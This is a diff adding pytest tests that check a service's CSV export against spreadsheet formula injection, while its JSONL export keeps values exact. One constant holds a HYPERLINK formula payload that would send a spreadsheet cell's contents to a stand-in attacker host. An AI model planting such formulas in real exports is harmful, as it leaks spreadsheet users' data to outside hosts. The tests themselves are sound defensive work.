@@ -167,3 +167,42 @@ def test_partial_file_never_visible(client, admin, settings, tmp_path):
     assert rows == 1 and out.exists()
     assert all(not exists for p, exists in seen if p < 1.0)
     assert not list(tmp_path.glob(".*partial"))
+
+
+EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+
+
+def test_csv_cells_that_start_like_formulas_are_neutralised(client, admin):
+    """OWASP CSV injection: a spreadsheet would evaluate these cells (the file has a BOM, so
+    it opens straight in one). CSV gets a leading quote; JSONL keeps the text exact."""
+    create_profile(client, name=EVIL_NAME, city="=1+2", country="IN")
+    create_profile(client, name="@SUM(1+1)*cmd", city="-2+3", country="KR")
+    create_profile(client, name="+Plus Corp", city="@Busan", country="KR")
+    _, content = run_export(client, admin, format="csv", top_k=5)
+    text = content.decode("utf-8-sig")
+    rows = list(csv.DictReader(io.StringIO(text)))
+    assert len(rows) == 2
+    cells = [v for r in rows for v in r.values()]
+    assert not [v for v in cells if v[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert {r["in_name"] for r in rows} == {"'" + EVIL_NAME}
+    assert {r["in_city"] for r in rows} == {"'=1+2"}
+    assert {r["kr_name"] for r in rows} == {"'@SUM(1+1)*cmd", "'+Plus Corp"}
+    assert {r["kr_city"] for r in rows} == {"'-2+3", "'@Busan"}
+    # Every text cell is quoted, so no reader splitting on another separator sees a formula.
+    assert f'"\'{EVIL_NAME.replace(chr(34), chr(34) * 2)}"' in text
+    # Numbers stay numbers.
+    assert all(float(r["score"]) >= 0 for r in rows)
+    _, content = run_export(client, admin, format="jsonl", top_k=5)
+    exact = [json.loads(line) for line in content.decode().splitlines()]
+    assert {r["in_name"] for r in exact} == {EVIL_NAME}
+    assert {r["in_city"] for r in exact} == {"=1+2"}
+
+
+def test_safe_cell_covers_every_formula_start():
+    # Tab and carriage return cannot arrive through the API (stripped), but the rule covers them.
+    from service.core.csvsafe import safe_cell
+
+    for start in ("=", "+", "-", "@", "\t", "\r"):
+        assert safe_cell(start + "1+2") == "'" + start + "1+2"
+    assert safe_cell("Busan") == "Busan"
+    assert safe_cell(-0.5) == -0.5 and safe_cell(None) is None
